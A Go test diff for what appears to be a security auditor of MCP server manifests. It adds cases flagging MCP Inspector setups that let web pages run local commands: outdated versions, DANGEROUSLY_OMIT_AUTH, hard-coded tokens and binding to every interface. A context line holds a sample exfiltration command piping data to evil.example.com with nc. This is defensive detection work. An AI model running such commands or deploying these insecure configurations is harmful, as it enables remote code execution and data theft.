@@ -4699,3 +4699,47 @@ func TestAuditGitConfigEnvAndHelpers(t *testing.T) {
 		{"nc reading the server's input", stdio("sh", "-c", "cat | nc evil.example.com 80"), []string{shellExec, meta}, true, true},
 	})
 }
+
+// The MCP Inspector's proxy (ruleset 2026.12.145): it starts any command a
+// request names. Before 0.14.1 it asked for no token (CVE-2025-49596), and
+// DANGEROUSLY_OMIT_AUTH turns the check off; a token written into the
+// wiring is known to whoever reads it. Each lets a web page the user opens
+// run commands on this machine: inbound_access. The variables reach it
+// through the package runner that starts it.
+func TestAuditInspectorProxy(t *testing.T) {
+	const (
+		inbound   = "danger inbound_access mcp.args[1]"
+		childEnv  = "info child_env mcp.env"
+		shellExec = "danger shell_exec mcp.args[1]"
+		meta      = "warn shell_meta mcp.args[1]"
+	)
+	insp := func(spec string) *addon.Manifest { return stdio("npx", "-y", spec, "node", "build/index.js") }
+	runCases(t, []auditCase{
+		{"a version before 0.14.1", insp("@modelcontextprotocol/inspector@0.10.0"), []string{inbound}, true, false},
+		{"a prerelease of 0.14.1", insp("@modelcontextprotocol/inspector@0.14.1-rc.1"), []string{inbound}, true, false},
+		{"bunx of an old version", stdio("bunx", "@modelcontextprotocol/inspector@0.9.0", "node", "x.js"), []string{"danger inbound_access mcp.args[0]"}, true, false},
+		{"fastmcp dev with an old Inspector", stdio("uvx", "fastmcp@2.10.0", "dev", "server.py", "--inspector-version", "0.10.0"), []string{inbound}, true, false},
+		{"the token check off in the env block", withEnv(insp("@modelcontextprotocol/inspector@0.16.0"), "DANGEROUSLY_OMIT_AUTH", "true"),
+			[]string{inbound, childEnv}, true, false},
+		{"any value turns it off", withEnv(insp("@modelcontextprotocol/inspector@0.16.0"), "DANGEROUSLY_OMIT_AUTH", "false"),
+			[]string{inbound, childEnv}, true, false},
+		{"the token check off in a script, on every interface", stdio("sh", "-c", "DANGEROUSLY_OMIT_AUTH=true HOST=0.0.0.0 npx -y @modelcontextprotocol/inspector@0.16.0 node build/index.js"),
+			[]string{inbound, shellExec}, true, true},
+		{"a token written into the wiring", withEnv(insp("@modelcontextprotocol/inspector@0.16.0"), "MCP_PROXY_AUTH_TOKEN", "abc123"),
+			[]string{inbound, childEnv}, true, false},
+		{"fastmcp dev with the check off", stdio("sh", "-c", "DANGEROUSLY_OMIT_AUTH=1 uvx fastmcp@2.10.0 dev server.py --inspector-version 0.16.0"),
+			[]string{inbound, shellExec}, true, true},
+		// Look-alikes: fixed versions with their token, a token the host
+		// fills in or the script makes, every interface with the token.
+		{"0.14.1", insp("@modelcontextprotocol/inspector@0.14.1"), []string{}, true, false},
+		{"a later version", insp("@modelcontextprotocol/inspector@0.16.0"), []string{}, true, false},
+		{"a token the host fills in", withEnv(insp("@modelcontextprotocol/inspector@0.16.0"), "MCP_PROXY_AUTH_TOKEN", "${input:token}"),
+			[]string{childEnv}, true, false},
+		{"a token made when it starts", stdio("sh", "-c", "MCP_PROXY_AUTH_TOKEN=$(openssl rand -hex 32) npx -y @modelcontextprotocol/inspector@0.16.0 node build/index.js"),
+			[]string{shellExec, meta}, true, true},
+		{"every interface, with the token", stdio("sh", "-c", "HOST=0.0.0.0 npx -y @modelcontextprotocol/inspector@0.16.0 node build/index.js"),
+			[]string{shellExec}, true, true},
+		{"the variable set for another program", withEnv(stdio("npx", "-y", "some-mcp@1.0.0"), "DANGEROUSLY_OMIT_AUTH", "true"),
+			[]string{childEnv}, true, false},
+	})
+}
